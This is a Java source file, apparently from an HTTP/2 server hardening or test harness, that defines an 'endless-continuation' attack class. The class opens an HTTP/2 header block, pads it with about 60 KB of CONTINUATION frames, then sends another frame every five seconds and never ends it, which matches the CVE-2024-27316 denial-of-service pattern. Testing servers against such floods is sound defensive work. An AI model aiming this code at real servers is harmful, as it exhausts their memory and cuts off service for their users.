package io.kubeecho.hostile.attack;

import java.time.Duration;
import java.util.Arrays;

/** A block of header fields without an end (CVE-2024-27316 and its kin): it has to be kept until it has come as a whole. */
final class EndlessContinuation implements Attack {

    private static final int PIECES = 5;

    private final byte[] opening = pieces();
    private final byte[] more = new Http2Bytes(0).continuation(1, field(100)).bytes();

    private static byte[] pieces() {
        Http2Bytes bytes = new Http2Bytes(0).headers(1, Http2Bytes.request("/"));
        for (int i = 0; i < PIECES; i++) {
            bytes.continuation(1, field(12_000));
        }
        return bytes.bytes();
    }

    private static byte[] field(int length) {
        return Http2Bytes.fields("x-filler", "c".repeat(length));
    }

    @Override
    public String name() {
        return "endless-continuation";
    }

    @Override
    public String does() {
        return "begins a head of HTTP/2, adds 60 KB by CONTINUATION, a little more every 5 s, and never ends it";
    }

    @Override
    public Door door() {
        return Door.H2C;
    }

    @Override
    public byte[] opening() {
        return opening;
    }

    @Override
    public Then then() {
        // without the preface and the SETTINGS that the frames of a connection begin with
        byte[] frame = Arrays.copyOfRange(more, new Http2Bytes(0).bytes().length, more.length);
        return new Then.Again(Duration.ofSeconds(5), frame);
    }
}
